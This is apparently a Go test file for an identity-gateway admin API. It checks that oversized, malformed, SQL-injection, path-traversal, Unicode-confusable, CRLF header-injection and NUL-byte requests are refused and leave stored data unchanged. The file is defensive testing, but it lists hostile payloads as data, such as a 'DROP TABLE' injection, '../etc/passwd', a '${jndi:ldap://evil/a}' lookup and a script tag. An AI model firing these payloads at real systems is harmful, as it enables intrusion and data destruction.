package faults_test

import (
	"bufio"
	"encoding/json"
	"net"
	"net/http"
	"net/textproto"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/trustgate/terraform-provider-trustgate/internal/testkit"
	"github.com/trustgate/terraform-provider-trustgate/internal/testkit/testdb"

	"github.com/trustgate/terraform-provider-trustgate/api"
	"github.com/trustgate/terraform-provider-trustgate/api/apiclient"
)

// hostileCase is one request that the admin API must refuse without changing stored data.
type hostileCase struct {
	name   string
	method string
	path   string // raw (escaped) path and query, appended to the server URL
	role   string // devops (default), security
	ctype  string
	body   []byte
	header http.Header
	want   int
	// alsoOK are other acceptable statuses (a %2F in {ref} is decoded into a path separator
	// before routing, so it may meet another route's 405 or gin's trailing-slash redirect).
	alsoOK []int
	field  string // for 422: a field the errors list must name
}

// snapshot is what the hostile requests must leave alone.
type snapshot struct {
	connections string
	successes   int
	ids         map[string]bool
}

func takeSnapshot(t *testing.T, s *server) snapshot {
	t.Helper()
	evs := testkit.AuditEvents(t, s.admins(t).Security, apiclient.AuditOptions{})
	sn := snapshot{connections: connectionsJSON(t, s.admins(t).Auditor), ids: map[string]bool{}}
	for _, ev := range evs {
		sn.ids[ev.ID] = true
		if ev.Outcome != api.OutcomeDenied {
			sn.successes++
		}
	}
	return sn
}

// unchanged compares two snapshots: the same connections, no new successful change, and any new
// audit event is a denial (refusals are audited, CONTRACT.md §3).
func unchanged(t *testing.T, s *server, before snapshot, what string) {
	t.Helper()
	after := takeSnapshot(t, s)
	if after.connections != before.connections {
		t.Errorf("%s changed the stored connections:\nbefore %s\nafter  %s", what, before.connections, after.connections)
	}
	if after.successes != before.successes {
		t.Errorf("%s added %d successful audit events", what, after.successes-before.successes)
	}
}

func validInput(name string) map[string]any {
	return map[string]any{
		"name": name, "provider_type": "generic", "jwks_url": "https://issuer.example.com/jwks",
		"conditions": []map[string]any{
			{"claim": "iss", "operator": "equals", "value": "https://issuer.example.com"},
			{"claim": "aud", "operator": "equals", "value": "https://trustgate.example.com"},
		},
	}
}

func mustJSON(v any) []byte {
	b, err := json.Marshal(v)
	if err != nil {
		panic(err)
	}
	return b
}

func with(m map[string]any, k string, v any) map[string]any {
	out := map[string]any{}
	for kk, vv := range m {
		out[kk] = vv
	}
	out[k] = v
	return out
}

// TestHostileAdminInput sends oversized, malformed, mistyped, over-specified, SQL-ish,
// Unicode-confusable and path-traversing requests to every admin endpoint: each is refused with
// the right status as problem+json, and the stored connections and audit trail are unchanged.
func TestHostileAdminInput(t *testing.T) {
	t.Parallel()
	dbs := []struct {
		name string
		dsn  func(testing.TB) string
	}{{"sqlite", testdb.SQLite}}
	if testdb.PostgresURL() != "" {
		dbs = append(dbs, struct {
			name string
			dsn  func(testing.TB) string
		}{"postgres", testdb.RequirePostgres})
	} else {
		t.Logf("PostgreSQL pass skipped: %s is not set", testdb.EnvPostgresURL)
	}
	for _, db := range dbs {
		t.Run(db.name, func(t *testing.T) { hostileAdminInput(t, db.name, db.dsn(t)) })
	}
}

func hostileAdminInput(t *testing.T, dbName, dsn string) {
	d := newDeployment(t, dsn)
	s := startServer(t, "hostile-"+dbName, d)
	d.ensureKeys(t)
	target, err := s.admins(t).DevOps.CreateConnection(t.Context(), api.ConnectionInput{
		Name: "hostile-target", ProviderType: api.ProviderGeneric, JWKSURL: "https://issuer.example.com/jwks",
		Conditions: []api.Condition{
			{Claim: "iss", Operator: api.OpEquals, Value: strPtr("https://issuer.example.com")},
			{Claim: "aud", Operator: api.OpEquals, Value: strPtr("https://trustgate.example.com")},
		},
	})
	if err != nil {
		t.Fatal(err)
	}

	big := make([]byte, (1<<20)+1024)
	for i := range big {
		big[i] = 'A'
	}
	oversized := mustJSON(with(validInput("big"), "description", string(big)))
	oversizedPatch := mustJSON(map[string]any{"description": string(big)})
	deep := strings.Repeat("[", 20000) + strings.Repeat("]", 20000)
	conns := "/v1/workload-connections"
	tgt := conns + "/hostile-target"

	cases := []hostileCase{
		// Oversized bodies: 413.
		{name: "oversized create", method: "POST", path: conns, ctype: "application/json", body: oversized, want: 413},
		{name: "oversized patch", method: "PATCH", path: tgt, ctype: "application/merge-patch+json", body: oversizedPatch, want: 413},
		{name: "oversized status", method: "PUT", path: tgt + "/status", role: "security", ctype: "application/json", body: oversizedPatch, want: 413},
		{name: "oversized test", method: "POST", path: tgt + "/test", ctype: "application/json", body: oversizedPatch, want: 413},
		// Malformed bodies: 422.
		{name: "truncated JSON", method: "POST", path: conns, ctype: "application/json", body: []byte(`{"name":`), want: 422},
		{name: "not JSON", method: "POST", path: conns, ctype: "application/json", body: []byte(`name=x`), want: 422},
		{name: "JSON array", method: "POST", path: conns, ctype: "application/json", body: []byte(`[]`), want: 422},
		{name: "two JSON values", method: "POST", path: conns, ctype: "application/json", body: []byte(`{"name":"a"} {"name":"b"}`), want: 422},
		{name: "wrong type", method: "POST", path: conns, ctype: "application/json", body: mustJSON(with(validInput("wrong-type"), "name", 5)), want: 422},
		{name: "deeply nested", method: "POST", path: conns, ctype: "application/json", body: []byte(`{"name":"deep","conditions":` + deep + `}`), want: 422},
		{name: "empty body", method: "POST", path: conns, ctype: "application/json", body: []byte{}, want: 422},
		{name: "truncated patch", method: "PATCH", path: tgt, ctype: "application/merge-patch+json", body: []byte(`{`), want: 422},
		{name: "array patch", method: "PATCH", path: tgt, ctype: "application/merge-patch+json", body: []byte(`[{"op":"replace","path":"/name","value":"x"}]`), want: 422},
		{name: "truncated status", method: "PUT", path: tgt + "/status", role: "security", ctype: "application/json", body: []byte(`{"status":`), want: 422},
		// Wrong content types: 415.
		{name: "text/plain create", method: "POST", path: conns, ctype: "text/plain", body: mustJSON(validInput("plain")), want: 415},
		{name: "no content type", method: "POST", path: conns, ctype: "-", body: mustJSON(validInput("untyped")), want: 415},
		{name: "form create", method: "POST", path: conns, ctype: "application/x-www-form-urlencoded", body: []byte("name=form"), want: 415},
		{name: "multipart create", method: "POST", path: conns, ctype: "multipart/form-data; boundary=x", body: []byte("--x--"), want: 415},
		{name: "xml create", method: "POST", path: conns, ctype: "application/xml", body: []byte("<name>x</name>"), want: 415},
		{name: "garbage content type", method: "POST", path: conns, ctype: "application/json;;;===", body: mustJSON(validInput("garbage-ct")), want: 415},
		{name: "text/plain patch", method: "PATCH", path: tgt, ctype: "text/plain", body: []byte(`{"description":"x"}`), want: 415},
		{name: "json-patch patch", method: "PATCH", path: tgt, ctype: "application/json-patch+json", body: []byte(`[]`), want: 415},
		{name: "xml status", method: "PUT", path: tgt + "/status", role: "security", ctype: "application/xml", body: []byte(`<status>active</status>`), want: 415},
		// Unknown fields, including read-only fields smuggled in: 422 naming the field.
		{name: "unknown field", method: "POST", path: conns, ctype: "application/json", body: mustJSON(with(validInput("unknown"), "bogus", 1)), want: 422, field: "bogus"},
		{name: "status on create", method: "POST", path: conns, ctype: "application/json", body: mustJSON(with(validInput("born-active"), "status", "active")), want: 422, field: "status"},
		{name: "revision on create", method: "POST", path: conns, ctype: "application/json", body: mustJSON(with(validInput("rev"), "revision", 99)), want: 422, field: "revision"},
		{name: "created_by on create", method: "POST", path: conns, ctype: "application/json", body: mustJSON(with(validInput("who"), "created_by", "security")), want: 422, field: "created_by"},
		{name: "status in a patch", method: "PATCH", path: tgt, ctype: "application/merge-patch+json", body: []byte(`{"status":"active"}`), want: 422, field: "status"},
		{name: "activated_by in a patch", method: "PATCH", path: tgt, ctype: "application/merge-patch+json", body: []byte(`{"activated_by":"security"}`), want: 422, field: "activated_by"},
		{name: "nested unknown field", method: "PATCH", path: tgt, ctype: "application/merge-patch+json", body: []byte(`{"token_ttl":{"amount":5,"unit":"minutes","evil":1}}`), want: 422},
		{name: "unknown status field", method: "PUT", path: tgt + "/status", role: "security", ctype: "application/json", body: []byte(`{"status":"inactive","force":true}`), want: 422, field: "force"},
		{name: "unknown test field", method: "POST", path: tgt + "/test", ctype: "application/json", body: []byte(`{"token":"x.y.z","jku":"https://evil"}`), want: 422, field: "jku"},
	}
	// Names outside the pattern: SQL-ish, confusable, invisible, or otherwise not URL-friendly.
	for _, n := range []struct{ label, name string }{
		{"SQL injection", `x'; DROP TABLE connections;--`},
		{"SQL tautology", `a" OR "1"="1`},
		{"SQL comment", `hostile-target'--`},
		{"Cyrillic a", "dаta"},             // U+0430
		{"Cyrillic i", "gіthub-deploy"},    // U+0456
		{"Greek omicron", "prοd"},          // U+03BF
		{"fullwidth", "ｐｒｏｄ"},              // U+FF50…
		{"zero-width space", "pro\u200bd"}, // invisible
		{"right-to-left override", "a\u202eb"},
		{"NUL", "ab\x00c"},
		{"upper case", "Prod"},
		{"path", "../etc/passwd"},
		{"too long", strings.Repeat("a", 64)},
		{"leading hyphen", "-prod"},
		{"empty", ""},
	} {
		cases = append(cases,
			hostileCase{name: "create name " + n.label, method: "POST", path: conns, ctype: "application/json",
				body: mustJSON(validInput(n.name)), want: 422, field: "name"},
			hostileCase{name: "rename to " + n.label, method: "PATCH", path: tgt, ctype: "application/merge-patch+json",
				body: mustJSON(map[string]any{"name": n.name}), want: 422, field: "name"})
	}
	// {ref} that tries to leave its path segment or smuggle bytes: 404, never another connection.
	for _, ref := range []string{
		"..%2F..%2Fetc%2Fpasswd", "%2e%2e%2f%2e%2e%2fetc%2fpasswd", "..%2Fhostile-target", "%2e%2e",
		"%00", "hostile-target%00", "hostile-target%00.json", "%ff%fe", "hostile-target%ff",
		"x%27%3B%20DROP%20TABLE%20connections%3B--", "hostile-target%27%20OR%20%271%27%3D%271",
		"%25", "hostile-target%2Fstatus", "%2F", strings.Repeat("a", 4096),
	} {
		var alsoOK []int // the router keeps an encoded slash inside {ref}: every case is a 404
		cases = append(cases,
			hostileCase{name: "GET ref " + trunc(ref), method: "GET", path: conns + "/" + ref, want: 404, alsoOK: alsoOK},
			hostileCase{name: "PATCH ref " + trunc(ref), method: "PATCH", path: conns + "/" + ref, ctype: "application/merge-patch+json",
				body: []byte(`{"description":"x"}`), want: 404, alsoOK: alsoOK},
			hostileCase{name: "DELETE ref " + trunc(ref), method: "DELETE", path: conns + "/" + ref, role: "security", want: 404, alsoOK: alsoOK},
			hostileCase{name: "PUT status ref " + trunc(ref), method: "PUT", path: conns + "/" + ref + "/status", role: "security",
				ctype: "application/json", body: []byte(`{"status":"active"}`), want: 404, alsoOK: alsoOK},
		)
	}
	// Filters are values, not SQL.
	cases = append(cases,
		hostileCase{name: "status filter injection", method: "GET", path: conns + "?status=active%27%20OR%20%271%27%3D%271", want: 422, field: "status"},
		hostileCase{name: "limit injection", method: "GET", path: conns + "?limit=1%3BDROP%20TABLE%20connections", want: 422, field: "limit"},
		hostileCase{name: "cursor garbage", method: "GET", path: conns + "?cursor=%27%3B--", want: 422, field: "cursor"},
		hostileCase{name: "NUL in name_prefix", method: "GET", path: conns + "?name_prefix=a%00", want: 422, field: "name_prefix"},
		hostileCase{name: "invalid UTF-8 in name_prefix", method: "GET", path: conns + "?name_prefix=%ff", want: 422, field: "name_prefix"},
		hostileCase{name: "NUL in audit connection filter", method: "GET", path: "/v1/audit-events?connection=%00", role: "security", want: 422, field: "connection"},
		hostileCase{name: "invalid UTF-8 in audit action filter", method: "GET", path: "/v1/audit-events?action=%fe", role: "security", want: 422, field: "action"},
	)

	before := takeSnapshot(t, s)
	problems, redirects := 0, 0
	for _, c := range cases {
		key := d.devops
		if c.role == "security" {
			key = d.security
		}
		r := s.Do(t, testkit.Request{Method: c.method, Path: c.path, Key: key, ContentType: c.ctype, Body: c.body, Header: c.header})
		problem, isProblem := r.AsProblem()
		if r.Status != c.want && slices.Contains(c.alsoOK, r.Status) {
			if r.Status >= 300 && r.Status < 400 {
				if loc := r.Header.Get("Location"); !strings.HasPrefix(loc, "/v1/workload-connections") {
					t.Errorf("%s: redirected to %q", c.name, loc)
				}
				redirects++
				continue // a redirect, not an error: no problem body to check
			}
		} else if r.Status != c.want {
			t.Errorf("%s: %s %s answered %d %s, want %d", c.name, c.method, trunc(c.path), r.Status, trunc(string(r.Body)), c.want)
			continue
		}
		if !isProblem {
			t.Errorf("%s: the %d answer is not problem+json: %s %s", c.name, r.Status, r.Header.Get("Content-Type"), trunc(string(r.Body)))
			continue
		}
		if c.field != "" && !namesField(problem, c.field) {
			t.Errorf("%s: the 422 does not name the field %q: %s", c.name, c.field, r.Body)
		}
		problems++
	}
	unchanged(t, s, before, "the hostile requests")

	// Filters with SQL in them match nothing rather than everything.
	list, err := s.admins(t).Auditor.ListConnections(t.Context(), apiclient.ListOptions{NamePrefix: `%' OR '1'='1`})
	if err != nil || len(list.Items) != 0 {
		t.Errorf("name_prefix with SQL: %d items, %v; want none", len(list.Items), err)
	}
	// The target is intact and still reachable.
	if got, err := s.admins(t).Auditor.GetConnection(t.Context(), "hostile-target"); err != nil || got.Revision != target.Revision {
		t.Errorf("hostile-target after the hostile requests: %+v %v", got, err)
	}

	ids := requestIDInjection(t, s, d)
	unchanged(t, s, before, "the request-id injections")
	summary(t, "hostile input (%s): %d of %d hostile admin requests refused with the right status and problem+json (%d more redirected by gin for a %%2F in {ref}); %d request-id injections answered with a generated id or refused by net/http; connections and successful audit events unchanged",
		dbName, problems, len(cases), redirects, ids)
}

// generatedID is what the server issues when it replaces a caller's X-Request-Id.
var safeRequestID = regexp.MustCompile(`^[A-Za-z0-9._:-]{1,128}$`)

// requestIDInjection sends X-Request-Id values that are overlong or carry control characters or
// header syntax. Values the HTTP client can send go through rawDo; CR, LF and NUL need a raw socket.
// The answer must carry a safe, generated id (or be refused by the HTTP layer), never the input,
// and never an injected header.
func requestIDInjection(t *testing.T, s *server, d *deployment) int {
	t.Helper()
	n := 0
	for _, v := range []string{strings.Repeat("a", 129), "a b", "x\ty", "<script>alert(1)</script>", "${jndi:ldap://evil/a}",
		"%0d%0aSet-Cookie:%20x=1", "id\u00e9", `"quoted"`} {
		// A refused create is audited, so the audit event shows which id the server used.
		r := s.Do(t, testkit.Request{Method: "POST", Path: "/v1/workload-connections", Key: d.devops,
			Body: mustJSON(validInput(`x'; DROP TABLE connections;--`)), Header: http.Header{"X-Request-Id": {v}}})
		problem, _ := r.AsProblem()
		got := r.Header.Get("X-Request-Id")
		if got == v || !safeRequestID.MatchString(got) {
			t.Errorf("X-Request-Id %q answered with X-Request-Id %q, want a generated id", trunc(v), got)
		}
		if problem.RequestID != got {
			t.Errorf("X-Request-Id %q: problem request_id %q differs from the header %q", trunc(v), problem.RequestID, got)
		}
		evs := testkit.AuditEvents(t, s.admins(t).Security, apiclient.AuditOptions{Action: api.ActionConnectionCreate})
		found := false
		for _, ev := range evs {
			if ev.RequestID == v {
				t.Errorf("the caller's X-Request-Id %q reached the audit log", trunc(v))
			}
			if ev.RequestID == got {
				found = true
			}
		}
		if !found {
			t.Errorf("no audit event carries the generated request id %s", got)
		}
		n++
	}
	addr := strings.TrimPrefix(s.URL, "http://")
	for _, v := range []string{"abc\r\nSet-Cookie: injected=1", "abc\rSet-Cookie: injected=1", "abc\nSet-Cookie: injected=1",
		"abc\r\n\r\nHTTP/1.1 200 OK", "abc\x00def", strings.Repeat("x", 5000)} {
		status, header := rawHTTP(t, addr, "GET /v1/workload-connections HTTP/1.1\r\nHost: "+addr+
			"\r\nAuthorization: Bearer "+d.auditor+"\r\nX-Request-Id: "+v+"\r\nConnection: close\r\n\r\n")
		if header.Get("Set-Cookie") != "" || header.Get("Injected") != "" {
			t.Errorf("X-Request-Id %q injected a response header: %v", trunc(v), header)
		}
		if status == http.StatusBadRequest && header.Get("X-Request-Id") == "" {
			t.Logf("raw X-Request-Id %q → 400 from net/http (malformed header), nothing echoed", trunc(v))
			n++ // refused by the HTTP layer before reaching the router: nothing echoed
			continue
		}
		got := header.Get("X-Request-Id")
		t.Logf("raw X-Request-Id %q → %d, X-Request-Id %q", trunc(v), status, got)
		// At the protocol level "abc\r\nSet-Cookie: …" is the id "abc" plus a request header: the id
		// may be "abc", but nothing after the line break may reach the answer.
		if !safeRequestID.MatchString(got) || got == v || strings.Contains(got, "Cookie") || strings.Contains(got, "HTTP") {
			t.Errorf("raw X-Request-Id %q answered %d with X-Request-Id %q", trunc(v), status, got)
		}
		n++
	}
	return n
}

// rawHTTP writes a request byte for byte and reads the status and headers of the answer.
func rawHTTP(t *testing.T, addr, request string) (int, http.Header) {
	t.Helper()
	conn, err := net.DialTimeout("tcp", addr, 5*time.Second)
	if err != nil {
		t.Fatal(err)
	}
	defer func() { _ = conn.Close() }()
	_ = conn.SetDeadline(time.Now().Add(10 * time.Second))
	if _, err := conn.Write([]byte(request)); err != nil {
		t.Fatal(err)
	}
	resp, err := http.ReadResponse(bufio.NewReader(conn), nil)
	if err != nil {
		t.Fatalf("reading the answer to a raw request: %v", err)
	}
	defer func() { _ = resp.Body.Close() }()
	return resp.StatusCode, http.Header(textproto.MIMEHeader(resp.Header))
}

func namesField(p api.Problem, field string) bool {
	for _, e := range p.Errors {
		if e.Field == field || strings.HasPrefix(e.Field, field+".") || strings.HasPrefix(e.Field, field+"[") {
			return true
		}
	}
	return false
}

func trunc(s string) string { return testkit.Truncate(s, 80) }

func strPtr(s string) *string { return &s }

// TestHostileTokenRequests sends unauthenticated token requests whose connection name no database
// can store (NUL, invalid UTF-8) or is huge, while legitimate clients exchange tokens at the same
// time. The hostile requests are refused as the client's fault (400), and — since the audit writer
// commits events in shared batches — they must not make the legitimate exchanges fail.
func TestHostileTokenRequests(t *testing.T) {
	t.Parallel()
	dsn := testdb.SQLite(t)
	if testdb.PostgresURL() != "" {
		dsn = testdb.RequirePostgres(t) // PostgreSQL is the one that refuses NUL and invalid UTF-8
	} else {
		t.Logf("on SQLite: set %s for the PostgreSQL pass", testdb.EnvPostgresURL)
	}
	d := newDeployment(t, dsn)
	s := startServer(t, "hostile-token", d)
	iss := startIssuer(t)
	s.admins(t).CreateActive(t, connectionInput(iss, "legit"))
	tok := ciToken(t, iss)

	hostile := []string{"a\x00b", "\x00", "legit\x00", "\xff\xfe", "legit\xff", strings.Repeat("n", 100000)}
	for i, name := range hostile {
		r := s.PostForm(testkit.ExchangeForm(name, tok), http.Header{"X-Request-Id": {"hostile-name-" + strconv.Itoa(i)}})
		if r.Status != http.StatusBadRequest {
			t.Errorf("exchange through connection %q: %s, want 400", trunc(name), r)
		}
	}
	// Each refusal is still in the audit log, with a storable rendering of the name.
	audited := map[string]bool{}
	for _, ev := range testkit.AuditEvents(t, s.admins(t).Security, apiclient.AuditOptions{Action: api.ActionTokenExchange}) {
		if strings.HasPrefix(ev.RequestID, "hostile-name-") && ev.Outcome == api.OutcomeDenied {
			audited[ev.RequestID] = true
		}
	}
	if len(audited) != len(hostile) {
		t.Errorf("%d of %d refused exchanges with unstorable names are in the audit log", len(audited), len(hostile))
	}

	const legitWorkers, perWorker = 4, 40
	var (
		wg       sync.WaitGroup
		mu       sync.Mutex
		failures []string
		stop     = make(chan struct{})
		sentBad  atomic.Int64
	)
	for w := 0; w < 4; w++ {
		wg.Add(1)
		go func(w int) {
			defer wg.Done()
			for {
				select {
				case <-stop:
					return
				default:
				}
				s.Exchange(hostile[w%len(hostile)], tok)
				sentBad.Add(1)
			}
		}(w)
	}
	var legit sync.WaitGroup
	for w := 0; w < legitWorkers; w++ {
		legit.Add(1)
		go func() {
			defer legit.Done()
			for i := 0; i < perWorker; i++ {
				if r := s.Exchange("legit", tok); r.Status != http.StatusOK {
					mu.Lock()
					failures = append(failures, r.String())
					mu.Unlock()
				}
			}
		}()
	}
	legit.Wait()
	close(stop)
	wg.Wait()
	if len(failures) > 0 {
		t.Errorf("%d of %d legitimate exchanges failed while hostile names were sent; first: %s",
			len(failures), legitWorkers*perWorker, failures[0])
	}
	summary(t, "hostile token requests: %d legitimate exchanges alongside %d with unstorable connection names, %d failed",
		legitWorkers*perWorker, sentBad.Load(), len(failures))
}

// TestRefusedAdminChangesDoNotFailExchanges: a refused admin change is audited through the same
// batching writer as exchanges. A refusal whose audit record PostgreSQL cannot store (a name with
// a NUL, sent as the JSON escape \u0000) must not take concurrent exchanges down with it.
func TestRefusedAdminChangesDoNotFailExchanges(t *testing.T) {
	t.Parallel()
	dsn := testdb.SQLite(t)
	if testdb.PostgresURL() != "" {
		dsn = testdb.RequirePostgres(t)
	} else {
		t.Logf("on SQLite: set %s for the PostgreSQL pass", testdb.EnvPostgresURL)
	}
	d := newDeployment(t, dsn)
	s := startServer(t, "hostile-admin-audit", d)
	d.ensureKeys(t)
	iss := startIssuer(t)
	s.admins(t).CreateActive(t, connectionInput(iss, "legit"))
	tok := ciToken(t, iss)

	bodies := [][]byte{
		[]byte(`{"name":"a\u0000b","provider_type":"generic","jwks_url":"https://i.example/jwks"}`),
		[]byte(`{"name":"ok-name","description":"\u0000","provider_type":"generic","jwks_url":"https://i.example/jwks"}`),
	}
	var (
		wg       sync.WaitGroup
		stop     = make(chan struct{})
		mu       sync.Mutex
		failures []string
		refused  atomic.Int64
	)
	for w := 0; w < 3; w++ {
		wg.Add(1)
		go func(w int) {
			defer wg.Done()
			for {
				select {
				case <-stop:
					return
				default:
				}
				r := s.Do(t, testkit.Request{Method: "POST", Path: "/v1/workload-connections", Key: d.devops, Body: bodies[w%len(bodies)]})
				if r.Status != http.StatusUnprocessableEntity {
					mu.Lock()
					failures = append(failures, "create with a NUL: "+strconv.Itoa(r.Status)+" "+trunc(string(r.Body)))
					mu.Unlock()
				}
				refused.Add(1)
			}
		}(w)
	}
	const legitWorkers, perWorker = 4, 40
	var legit sync.WaitGroup
	for w := 0; w < legitWorkers; w++ {
		legit.Add(1)
		go func() {
			defer legit.Done()
			for i := 0; i < perWorker; i++ {
				if r := s.Exchange("legit", tok); r.Status != http.StatusOK {
					mu.Lock()
					failures = append(failures, "legitimate exchange: "+r.String())
					mu.Unlock()
				}
			}
		}()
	}
	legit.Wait()
	close(stop)
	wg.Wait()
	if len(failures) > 0 {
		t.Errorf("%d failures while refused admin changes with NUL bytes were audited; first: %s", len(failures), failures[0])
	}
	summary(t, "refused admin changes: %d creates with NUL bytes refused alongside %d legitimate exchanges, %d failures",
		refused.Load(), legitWorkers*perWorker, len(failures))
}
